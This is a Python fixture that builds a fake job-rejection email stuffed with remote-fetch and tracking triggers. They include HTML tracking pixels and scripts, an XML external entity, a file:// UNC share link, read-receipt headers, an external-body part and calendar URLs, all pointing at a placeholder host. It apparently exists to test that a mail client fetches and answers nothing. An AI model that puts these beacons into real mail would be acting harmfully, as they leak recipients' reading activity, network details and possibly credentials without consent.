"""A mail that would like to be noticed being read: everything in it that a program could be made to fetch or answer."""

from __future__ import annotations

_HOST = "beacon.example"
_URL = f"http://192.0.2.7/x.gif?who=robin&from={_HOST}"
_PAGE = f"""\
<?xml version="1.0"?><?xml-stylesheet href="{_URL}"?>
<!DOCTYPE html SYSTEM "{_URL}" [<!ENTITY seen SYSTEM "{_URL}"> %remote;]>
<html><head><base href="http://{_HOST}/"><link rel="stylesheet" href="{_URL}"><link rel="dns-prefetch" href="//{_HOST}">
<style>@import url({_URL}); body {{ background: url({_URL}) }} @font-face {{ src: url({_URL}) }}</style>
<meta http-equiv="refresh" content="0; url={_URL}"><script src="{_URL}"></script></head>
<body background="{_URL}"><img src="{_URL}" srcset="{_URL} 2x" width=1 height=1><iframe src="{_URL}"></iframe>
<object data="{_URL}"></object><video poster="{_URL}"></video><img src="file:////192.0.2.7/share/x"> &seen;
<p>Dear Robin,</p><p>Thank you for applying for the Data Analyst position at Beacon Analytics. After careful
consideration we have decided not to move forward with your application.</p>
<form action="{_URL}"><input name=a autofocus></form><a href="{_URL}" ping="{_URL}">read more</a></body></html>
"""
_CALENDAR = f"""\
BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nVERSION:2.0\r\nSOURCE;VALUE=URI:{_URL}\r\nBEGIN:VTIMEZONE\r\nTZID:Elsewhere\r
TZURL:{_URL}\r\nBEGIN:STANDARD\r\nDTSTART:20200101T000000\r\nTZOFFSETFROM:+0100\r\nTZOFFSETTO:+0100\r\nEND:STANDARD\r
END:VTIMEZONE\r\nBEGIN:VEVENT\r\nUID:1@{_HOST}\r\nDTSTAMP:20260301T000000Z\r\nDTSTART;TZID=Elsewhere:20260310T100000\r
ORGANIZER:mailto:jobs@{_HOST}\r\nATTENDEE;RSVP=TRUE:mailto:robin@reader.example\r\nURL:{_URL}\r\nATTACH:{_URL}\r
BEGIN:VALARM\r\nACTION:EMAIL\r\nATTENDEE:mailto:jobs@{_HOST}\r\nTRIGGER:-PT1M\r\nEND:VALARM\r\nEND:VEVENT\r
END:VCALENDAR\r
"""


def mail() -> bytes:
    """A no from an employer who watches."""
    head = (
        f"Return-Path: <bounce@{_HOST}>",
        f"DKIM-Signature: v=1; a=rsa-sha256; d={_HOST}; s=s1; h=from; bh=AA==; b=AA==",
        f"Received: from {_HOST} ({_HOST} [192.0.2.7]) by mx.reader.example; Mon, 2 Mar 2026 07:00:00 +0000",
        f"From: Beacon Analytics <jobs@{_HOST}>",
        f"Reply-To: answer@{_HOST}",
        "To: robin@reader.example",
        "Subject: Your application for Data Analyst at Beacon Analytics",
        f"Message-ID: <seen-by-robin@{_HOST}>",
        f"Disposition-Notification-To: jobs@{_HOST}",
        f"Return-Receipt-To: jobs@{_HOST}",
        f"X-Confirm-Reading-To: jobs@{_HOST}",
        f"List-Unsubscribe: <{_URL}>, <mailto:gone@{_HOST}>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        f"Content-Location: {_URL}",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="q"',
    )
    outside = f'message/external-body; access-type=URL; URL="{_URL}"'
    parts = (("text/html; charset=utf-8", _PAGE), (outside, "\r\n"), ("text/calendar; method=REQUEST", _CALENDAR))
    body = "".join(f"--q\r\nContent-Type: {kind}\r\n\r\n{text}\r\n" for kind, text in parts)
    return ("\r\n".join(head) + f"\r\n\r\n{body}--q--\r\n").encode()
